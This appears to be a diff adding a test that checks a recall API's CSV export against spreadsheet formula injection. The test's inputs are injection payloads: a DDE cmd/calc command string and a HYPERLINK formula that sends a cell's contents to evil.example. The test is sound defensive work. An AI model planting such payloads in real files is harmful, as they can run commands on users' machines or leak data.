@@ -186,6 +186,26 @@ t.test('recalls', async (t) => {
     t.equal(json[0]?.item.lotNumber, '=HYPERLINK(X)', 'the JSON keeps the value as scanned');
   });
 
+  t.test('every cell a spreadsheet could run is guarded: = + - @, tab and carriage return first (OWASP)', async (t) => {
+    const evilPlace = "-2+3+cmd|' /C calc'!A0";
+    const evilClinician = '+HYPERLINK("http://evil.example/?x="&A2,"Open")';
+    await app.request({ method: 'POST', url: '/v1/locations', key: org.keys.admin, payload: { gln: '9506000134383', name: evilPlace } });
+    const proc = await newProcedure(app, s, 205, { location: { gln: '9506000134383' }, clinician: { localId: 'EVIL1', name: evilClinician } });
+    const typed = await scan(app, s, proc, { manual: { gtin: GTIN_C, lotNumber: '+HYPERLINK(1)', serialNumber: '-1+1' } });
+    t.equal(typed.statusCode, 201, typed.body);
+    await scan(app, s, proc, { manual: { gtin: GTIN_C, lotNumber: '-12', serialNumber: 'S-TAB' } });
+    const recall = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-OWASP', title: 'csv', scope: [{ gtin: GTIN_C, lots: ['+HYPERLINK(1)', '-12'] }] } });
+    const csv = await app.request({ method: 'GET', url: `/v1/recalls/${recall.json().id}/patients?format=csv`, key: p });
+    const cells = csv.body.trimEnd().split('\n').slice(1).join('\n');
+    t.match(cells, "'-2+3+cmd|' /C calc'!A0", 'a location name is guarded');
+    t.match(cells, `"'+HYPERLINK(""http://evil.example/?x=""&A2,""Open"")"`, 'a clinician name is guarded');
+    t.match(cells, ",'+HYPERLINK(1),'-1+1,", 'a typed lot and serial are guarded');
+    t.match(cells, ",'-12,", 'a lot that starts with - is guarded too (a spreadsheet does not show the apostrophe)');
+    t.notMatch(cells, /(^|,)[=+\-@\t\r]/m, 'no cell starts with a formula character');
+    const json = await allAffected(app, p, recall.json().id);
+    t.same(json.map((r) => r.item.lotNumber).sort(), ['+HYPERLINK(1)', '-12'], 'the JSON keeps every value untouched');
+  });
+
   t.test('contact tracking: statuses with history; counts by status', async (t) => {
     const [first] = await allAffected(app, p, recallId);
     const item = first as Affected;
